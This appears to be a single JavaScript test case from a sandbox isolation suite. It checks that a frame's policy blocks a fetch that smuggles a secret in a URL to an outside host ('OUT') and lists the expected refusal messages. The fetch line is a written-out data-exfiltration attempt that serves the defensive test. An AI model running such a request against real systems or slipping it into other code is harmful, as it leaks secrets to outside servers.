// A request by fetch.
// tries: send a secret to another server in the address of a request, without asking that server
// must: be refused by the policy of the frame; nothing arrives
// refusal: Failed to fetch|NetworkError|Load failed|no network
// status: timeout
// timeout: 5000
// control: heard
await fetch(`${OUT}?secret=4711`, { mode: 'no-cors' });
console.log('escaped: the request was sent');
